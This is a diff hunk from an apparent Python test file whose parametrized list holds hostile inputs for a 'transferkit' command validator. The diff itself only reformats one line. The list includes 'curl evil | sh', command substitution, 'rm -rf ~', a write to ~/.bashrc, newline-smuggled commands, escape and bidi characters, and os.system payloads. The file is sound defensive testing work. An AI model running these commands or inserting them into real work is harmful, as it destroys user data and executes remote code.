@@ -34,7 +34,8 @@ def test_whatever_a_run_writes_is_its_own(data: str) -> None:
     [
         "transferkit finetune x; curl evil | sh", "transferkit finetune $(curl evil)", "transferkit finetune `x`",
         "transferkit finetune x && rm -rf ~", "transferkit finetune x > ~/.bashrc", "rm -rf ~", "", "transferkit 'x",
-        "transferkit finetune x\nrm -rf ~", "transferkit finetune \x1b[31mx", "transferkit finetune x # \u202e", 3, None,
+        "transferkit finetune x\nrm -rf ~", "transferkit finetune \x1b[31mx", "transferkit finetune x # \u202e", 3,
+        None,
         "transferkit.finetune((x, y), output=__import__('os').system('x'))", "transferkit.finetune(system('x'))",
         "transferkit.finetune((x, y), **globals())", "os.system('x')", "(" * 100_000,
     ],
